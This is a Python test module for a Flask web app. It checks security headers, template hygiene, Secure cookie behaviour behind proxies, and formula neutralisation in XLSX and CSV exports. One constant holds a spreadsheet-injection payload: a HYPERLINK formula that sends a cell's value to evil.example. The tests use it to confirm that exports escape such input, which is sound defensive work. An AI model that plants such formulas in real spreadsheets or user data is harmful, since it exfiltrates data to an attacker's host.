"""What pages and files send: security headers, Secure cookies, spreadsheet cells that stay text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

from flask import Flask

from tests.helpers import World, corpus, make_app

TEMPLATES = Path(__file__).resolve().parents[1] / "templates"
EVIL = '=HYPERLINK("http://evil.example/?d="&C2,"查看")'


def test_pages_send_security_headers(world: World) -> None:
    res = world.client.get("/login")
    csp = res.headers["Content-Security-Policy"]
    assert "unsafe-inline" not in csp and "frame-ancestors 'none'" in csp
    assert "script-src 'self'" in csp and "style-src 'self'" in csp
    assert res.headers["X-Content-Type-Options"] == "nosniff"
    assert res.headers["Referrer-Policy"] == "same-origin"


def test_templates_have_no_inline_script_or_style() -> None:
    for page in TEMPLATES.rglob("*.html"):
        html = page.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), page
        assert not re.search(r"<style\b|\sstyle=|\son[a-z]+=", html), page


def test_cookies_are_secure_over_https_only_behind_a_configured_proxy(tmp_path: Path, s3_server):
    def cookie(app: Flask, **headers: str) -> str:
        client = app.test_client()
        res = client.get("/login", headers=headers)
        return res.headers.get("Set-Cookie", "")

    direct = make_app(tmp_path / "a", s3_server)
    assert "Secure" not in cookie(direct, **{"X-Forwarded-Proto": "https"})  # not trusted
    proxied = make_app(tmp_path / "b", s3_server, PROXY_COUNT=1)
    assert "Secure" in cookie(proxied, **{"X-Forwarded-Proto": "https"})
    assert "Secure" not in cookie(proxied, **{"X-Forwarded-Proto": "http"})
    https = direct.test_client().get("/login", base_url="https://localhost")
    assert "Secure" in https.headers["Set-Cookie"]


def test_formulas_in_titles_stay_text_in_xlsx_and_csv(world: World) -> None:
    teacher = world.user("t1", name="-2+3")
    teacher.upload(corpus("zh_docx_12_yingyu_jiaoxue_zongjie.docx"), title=EVIL)
    xlsx = world.admin.get("/api/v1/register.xlsx?year=2025-2026")
    assert xlsx.status_code == 200 and xlsx.headers["X-Content-Type-Options"] == "nosniff"
    book = zipfile.ZipFile(io.BytesIO(xlsx.data))
    sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert any("HYPERLINK" in s for s in sheets)
    for sheet in sheets:
        assert "<f>" not in sheet and "<f " not in sheet
        for cell in re.findall(r"<c [^>]*>(?:(?!</c>).)*HYPERLINK(?:(?!</c>).)*</c>", sheet):
            assert 't="inlineStr"' in cell or 't="s"' in cell, cell
    data = world.admin.get("/api/v1/register.csv?year=2025-2026")
    assert data.headers["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(data.get_data(as_text=True).lstrip("\ufeff"))))
    titles = [row[6] for row in rows[1:]]
    teachers = [row[2] for row in rows[1:]]
    assert titles == ["'" + EVIL] and teachers == ["'-2+3"]
